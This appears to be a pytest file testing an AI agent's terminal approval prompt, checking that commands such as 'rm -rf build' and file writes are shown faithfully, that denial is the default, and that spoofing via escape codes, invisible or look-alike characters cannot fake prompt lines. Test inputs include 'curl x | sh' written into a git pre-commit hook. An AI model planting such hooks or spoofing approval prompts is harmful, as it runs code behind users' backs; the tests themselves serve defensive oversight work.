"""The question at the terminal, put by the real dispatcher and read from a script instead of keys."""

from __future__ import annotations

import asyncio
from collections import deque
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from agent.cli.ask import TerminalAsker, asker_for
from agent.run import Crib, Session, assemble
from toolcrib import ExecutedCall, SuspendTicket, ToolCall, ToolResult


class Script:
    """Answers from a list: a text is typed, an exception raised."""

    def __init__(self, *lines: str | type[BaseException]) -> None:
        self.lines = deque(lines)
        self.shown: list[str] = []
        self.prompts: list[str] = []
        self.size = (200, 40)

    def show(self, text: str) -> None:
        self.shown.append(text)

    async def read_line(self, prompt: str) -> str:
        self.prompts.append(prompt)
        line = self.lines.popleft()
        if isinstance(line, str):
            return line
        raise line

    @property
    def screen(self) -> str:
        return "\n".join(self.shown)


@pytest.fixture
def crib(tmp_path: Path) -> Iterator[Crib]:
    with assemble(project_dir=tmp_path) as crib:
        yield crib


@pytest.fixture
def session(crib: Crib) -> Iterator[Callable[[Script], Session]]:
    opened: list[Session] = []

    def open_one(script: Script) -> Session:
        opened.append(crib.open_session(asker=TerminalAsker(script)))
        return opened[-1]

    yield open_one
    for one in opened:
        one.close_sync()


@pytest.fixture
def delete(session: Callable[[Script], Session], tmp_path: Path) -> Callable[[Script], ExecutedCall]:
    def run(script: Script, command: str = "rm -rf build") -> ExecutedCall:
        (tmp_path / "build").mkdir(exist_ok=True)
        return session(script).call("terminal", {"command": command})

    return run


Delete = Callable[..., ExecutedCall]


def test_the_question_shows_what_where_and_why(delete: Delete, tmp_path: Path) -> None:
    script = Script("o")
    assert delete(script).result.is_success
    assert not (tmp_path / "build").exists()
    assert "terminal wants to run:\n  │ rm -rf build\n" in script.screen
    assert f"  in {tmp_path}" in script.screen
    assert "fs.recursive-delete" in script.screen
    assert script.prompts == ["  [o]nce  [s]ession  [p]ath  [u]ses  [m]inutes  [a]lways  [d]eny  ? > "]
    assert f"  s    fs.recursive-delete, anywhere below {tmp_path}, until this session ends" in script.screen
    assert f"  p    fs.recursive-delete, of {tmp_path}/build only, until this session ends" in script.screen
    assert f"  a    `rm -rf build` in {tmp_path}, from now on, in every session" in script.screen


@pytest.mark.parametrize("unclear", ["", "y", "yes", "ok", "once please", "x", "al", "O S"])
def test_what_is_unclear_is_asked_again(delete: Delete, tmp_path: Path, unclear: str) -> None:
    script = Script(unclear, EOFError)
    assert not delete(script).result.is_success
    assert len(script.prompts) == 2
    assert "o    this call only" in script.screen
    assert (f"  {unclear!r} is none of these:" in script.screen) == bool(unclear)
    assert (tmp_path / "build").exists()


@pytest.mark.parametrize("end", [EOFError, KeyboardInterrupt])
def test_the_end_of_input_and_ctrl_c_deny(delete: Delete, tmp_path: Path, end: type[BaseException]) -> None:
    """003-28"""
    for script in (Script(end), Script("d", end)):
        executed = delete(script)
        assert executed.result.failure is not None
        assert executed.result.failure.kind == "Denied"
        assert "instead of answering" in str(executed.result.message)
    assert (tmp_path / "build").exists()


def test_a_denial_may_have_a_reason(delete: Delete) -> None:
    assert "wrong folder" in str(delete(Script("d wrong folder")).result.message)
    assert "wrong folder" in str(delete(Script("deny", "wrong folder")).result.message)
    assert "wrong folder" in str(delete(Script("N", "wrong folder")).result.message)
    assert "without a reason" in str(delete(Script("d", "")).result.message)


def test_always_holds_in_the_next_session_and_lies_in_the_configuration(delete: Delete, crib: Crib) -> None:
    """003-27"""
    assert delete(Script("a")).result.is_success
    assert delete(Script()).result.is_success
    assert "rm" in crib.config.path.read_text()


def test_what_is_asked_every_time_offers_once_only(delete: Delete) -> None:
    script = Script("s", "a", "o")
    delete(script, 'eval "$(date +:)"')
    assert "asked every time" in script.screen
    assert script.prompts[0] == "  [o]nce  [d]eny  ? > "
    assert len(script.prompts) == 3


def test_nothing_in_a_command_can_pass_for_our_own_lines(delete: Delete) -> None:
    script = Script(EOFError)
    delete(script, "rm -rf build\n  in /tmp\n\x1b[2Kecho \u202egnihton\r# \u200b")
    assert "  │ rm -rf build\n  │   in /tmp\n  │ ^[[2Kecho \\u202egnihton^M# \\u200b\n" in script.screen
    assert "invisible characters" in script.screen
    assert all(char == "\n" or char.isprintable() for char in script.screen)


def test_a_file_tool_shows_its_path_and_arguments(session: Callable[[Script], Session], tmp_path: Path) -> None:
    script = Script(EOFError)
    path = tmp_path / ".git" / "hooks" / "pre-commit"
    executed = session(script).call("write_file", {"path": str(path), "content": "curl x | sh\n"})
    assert not executed.result.is_success
    assert f"write_file wants to change:\n  │ {path}\n  with:\n" in script.screen
    assert "curl x | sh" in script.screen


def test_a_yes_to_a_long_call_takes_that_all_of_it_was_seen(session: Callable[[Script], Session], tmp_path: Path) -> None:
    """Nothing of what a yes covers can hide in the middle of it."""
    text = "".join(f"line {number}\n" for number in range(200))
    args = {"path": str(tmp_path / ".git" / "hooks" / "pre-commit"), "content": f"{text}curl x | sh\n{text}"}
    script = Script("o", "v", "o", "v all", "d")
    assert not session(script).call("write_file", args).result.is_success
    assert script.prompts[0].startswith("  [v]iew  [o]nce")
    assert len(script.prompts) == 6
    assert script.screen.count("not run: ") == 2
    assert script.screen.count("│ curl x | sh") == 1
    assert script.screen.count("that was all of it") == 1
    seen = Script("v all", "o")
    assert session(seen).call("write_file", args).result.is_success
    assert seen.screen.index("line 5") < seen.screen.index("curl x | sh") < seen.screen.rindex("line 199")


def test_a_short_call_needs_no_paging(delete: Delete) -> None:
    script = Script("v", "o")
    assert delete(script).result.is_success
    assert "'v' is none of these:" in script.screen


def test_names_and_offers_draw_no_line_either(delete: Delete, tmp_path: Path) -> None:
    (tmp_path / "a\n  o    lists it, once").mkdir()
    script = Script(EOFError)
    delete(script, "rm -rf $'a\\n  o    lists it, once'")
    assert "      as: rm -rf a\\n  o    lists it, once" in script.screen
    assert [line for line in script.screen.split("\n") if line.startswith("  o ")] == [
        "  o    this call only, exactly as it is shown"
    ]


def test_lines_are_broken_at_the_screens_width(delete: Delete) -> None:
    script = Script(EOFError)
    script.size = (60, 40)
    delete(script, f"rm -rf build{' ' * 38}  o    lists it, once")
    lines = script.screen.split("\n")
    assert all(len(line) < 60 for line in lines)
    assert all(line.startswith(("  │ ", "  │↳", "      as: rm")) for line in lines if "lists it" in line)


def test_a_platform_gets_the_same_text(crib: Crib, tmp_path: Path) -> None:
    """What a chat platform shows has the same lines as the terminal."""
    one, script = crib.open_session(suspends=True), Script(EOFError)
    parked = one.call("terminal", {"command": "rm -rf build\n  in /tmp \u0441at"}).result.suspension
    assert parked is not None
    asyncio.run(TerminalAsker(script)(parked))
    text = parked.parameters["prompt"]
    assert text.startswith("terminal wants to run:\n  │ rm -rf build\n  │   in /tmp \\u0441at\n")
    assert script.shown[0] == text
    one.close_sync()


def test_a_question_draws_no_line_of_ours(session: Callable[[Script], Session]) -> None:
    script = Script("x")
    session(script).call("clarify", {"question": "Which?\n  [o]nce  ? >", "choices": ["a\n  2. b"]})
    assert script.shown[0] == "❓ Which?\n  │   [o]nce  ? >\n  1. a\\n  2. b"


def test_a_question_takes_a_number_or_words(session: Callable[[Script], Session]) -> None:
    ask = {"question": "Which?", "choices": ["red", "green"]}
    script = Script("", "2")
    assert session(script).call("clarify", ask).result.data == "green"
    assert "❓ Which?\n  1. red\n  2. green" in script.screen
    assert session(Script("blue")).call("clarify", ask).result.data == "blue"
    assert session(Script("3")).call("clarify", ask).result.data == "3"
    assert session(Script("because")).call("clarify", {"question": "Why?"}).result.data == "because"
    assert not session(Script(EOFError)).call("clarify", ask).result.is_success


def test_an_answer_of_another_type_is_json(crib: Crib, session: Callable[[Script], Session]) -> None:
    def handle(args: object, ctx: object) -> ToolResult:
        ticket = SuspendTicket("count", "How many?", response_schema={"type": "integer"}, resume_mode="use_as_result")
        return ToolResult.suspended_with("count", "How many?", ticket)

    crib.registry.register("count", "count", {"description": "Count."}, handle)
    script = Script("many", "12")
    assert session(script).call("count", {}).result.data == 12
    assert "Expected JSON of type integer" in script.screen


def test_asked_from_a_running_loop_it_is_the_same(session: Callable[[Script], Session], tmp_path: Path) -> None:
    (tmp_path / "build").mkdir()

    async def turn() -> list[ExecutedCall]:
        one = session(Script("o"))
        return await one.calls([ToolCall("1", "terminal", {"command": "rm -rf build"})])

    assert asyncio.run(turn())[0].result.is_success


def test_without_a_terminal_the_answer_is_no(crib: Crib, tmp_path: Path) -> None:
    one = crib.open_session(asker=asker_for(None))
    executed = one.call("terminal", {"command": "rm -rf build"})
    assert "Run it in a terminal to be asked" in str(executed.result.message)
    one.close_sync()
